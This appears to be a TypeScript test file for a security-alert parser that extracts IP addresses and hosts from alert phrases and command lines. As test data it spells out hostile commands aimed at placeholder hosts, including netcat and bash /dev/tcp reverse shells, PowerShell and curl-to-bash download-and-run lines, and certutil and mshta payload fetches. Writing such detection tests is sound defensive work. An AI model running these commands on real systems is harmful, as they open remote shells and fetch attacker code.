import { newCollector } from '../../shared/alerts/collector'
import { addCommandLine } from '../../shared/alerts/command-line'
import { addPhrases } from '../../shared/alerts/phrases'

function phrasesIn(text: string): string[] {
  const collector = newCollector()
  addPhrases(collector, text, 'title')
  return collector.findings.map(({ fieldSide, value, role }) => `${fieldSide} ${value} ${role}`)
}

function mentionsIn(text: string): string[] {
  const collector = newCollector()
  addCommandLine(collector, text, 'line')
  return collector.findings.map(({ value }) => value)
}

describe('phrases of security products', () => {
  it.each([
    [
      'Outbound connection from 192.168.5.105:58836 to 192.0.2.42:443 MSTIC Storm-0900 activity group.',
      ['own 192.168.5.105:58836 source', 'remote 192.0.2.42:443 destination'],
    ],
    [
      'Inbound RDP connection from 192.0.2.1:5000 to 10.0.0.1:3389',
      ['remote 192.0.2.1:5000 source', 'own 10.0.0.1:3389 destination'],
    ],
    [
      'Suspicious connection from 192.0.2.1 to 192.0.2.2',
      ['unsaid 192.0.2.1 source', 'unsaid 192.0.2.2 destination'],
    ],
    [
      'Outbound connection from [2001:db8::1]:5000 to [2001:db8::2]:443',
      ['own [2001:db8::1]:5000 source', 'remote [2001:db8::2]:443 destination'],
    ],
    [
      'your machine (IP 192.0.2.3) has communicated with what is possibly a Command and Control center at IP 192.0.2.4.',
      ['own 192.0.2.3 unknown', 'remote 192.0.2.4 c2'],
    ],
    ['attempts were detected from FreeRDP (192.0.2.5), some successful', ['remote 192.0.2.5 source']],
    ['Attacker IP: 192.0.2.6, victim IP 192.0.2.7', ['remote 192.0.2.6 attacker', 'own 192.0.2.7 unknown']],
    ['Malicious URL hxxps://evil[.]example/x was clicked', ['remote hxxps://evil[.]example/x unknown']],
    ['Connection to evil[.]example blocked', ['remote evil[.]example unknown']],
    ['Phishing site: evil-page.azurewebsites.net was opened', ['remote evil-page.azurewebsites.net unknown']],
  ])('%s', (text, found) => {
    expect(phrasesIn(text)).toEqual(found)
  })

  it.each([
    'See https://blogs.technet.microsoft.com/mmpc/2017/06/27/x/ for more information.',
    'CVE-2026-12345 in version 10.0.19041.1 of setup.exe',
    'File perfc.dat was written to C:\\Windows\\192.0.2.1',
    'Agent 1.2.3.4 was updated to 1.2.3.5',
    'A connection from somewhere to elsewhere',
    'HKLM\\SOFTWARE\\Classes\\{8700d3a3-3bb7-4fbe-a090-488a1ad04161}',
  ])('nothing in: %s', (text) => {
    expect(phrasesIn(text)).toEqual([])
  })
})

describe('command lines', () => {
  it.each([
    ['curl -o x http://evil.example/a;', ['http://evil.example/a']],
    [
      'powershell "IEX(New-Object Net.WebClient).DownloadString(\'http://evil.example/a.ps1\')"',
      ['http://evil.example/a.ps1'],
    ],
    ['nc 192.0.2.1 4444', ['192.0.2.1']],
    ['ssh root@192.0.2.1', []],
    ['powershell -w h -c "iex(irm evil.example.com/run)"', ['evil.example.com/run']],
    ['curl -sL evil.example.com:8080/a.sh | bash', ['evil.example.com:8080/a.sh']],
    ['wget -q evil.azurewebsites.net', ['evil.azurewebsites.net']],
    ['mshta evil.azurewebsites.net/x.hta', ['evil.azurewebsites.net/x.hta']],
    ['bash -i >& /dev/tcp/192.0.2.9/4444 0>&1', ['192.0.2.9']],
    ['exec 5<>/dev/tcp/c2.azurewebsites.net/443', ['c2.azurewebsites.net']],
    ['nc -e /bin/sh c2.azurewebsites.net 4444', ['c2.azurewebsites.net']],
    ['ssh -p 443 -R 1:localhost:22 t@c2.azurewebsites.net', ['c2.azurewebsites.net']],
    ["New-Object System.Net.Sockets.TCPClient('c2.azurewebsites.net',4444)", ['c2.azurewebsites.net']],
    ['certutil -urlcache -f evil.azurewebsites.net/a.zip C:\\x\\a.zip', ['evil.azurewebsites.net/a.zip']],
    // Nothing here connects, or what has a dot is a file, a class, a call or a mailbox.
    ['notepad.exe evil.azurewebsites.net.txt', []],
    ['start evil.azurewebsites.net', []],
    ['curl -o readme.md setup.py run.sh app.name data.zip', []],
    ['python -c "import requests; requests.post(x); asyncio.run(y)" curl', []],
    ['powershell [System.IO.File]::ReadAllText(1); irm $x.data.info', []],
    ['curl -u a.person@corp.azurewebsites.net -T $env:COMPUTERNAME', []],
    ['tool --version=1.2.3.4 v1.2.3.4 Chrome/120.0.0.0', []],
    ['copy \\\\evil.example@80\\dav\\x.exe c:\\', ['evil.example']],
    ['rundll32.exe perfc.dat setup.exe a.b.c', []],
  ])('%s', (text, found) => {
    expect(mentionsIn(text)).toEqual(found)
  })

  it('is read in time that grows with its length only', () => {
    const hostile = [
      ...[`curl ${'a.'.repeat(16_000)}`, `curl ${'a-'.repeat(16_000)}.`, `curl ${'a.com/'.repeat(5_000)}`],
      ...[`ssh ${'a@'.repeat(16_000)}`, `nc ${'a@b.'.repeat(8_000)}`, '/dev/tcp/'.repeat(3_000)],
      'a.'.repeat(20_000),
      'http://'.repeat(5_000),
      '1.'.repeat(20_000),
      '\\\\'.repeat(20_000),
    ]
    for (const text of hostile) expect(mentionsIn(text).length).toBeLessThanOrEqual(2000)
  })
})
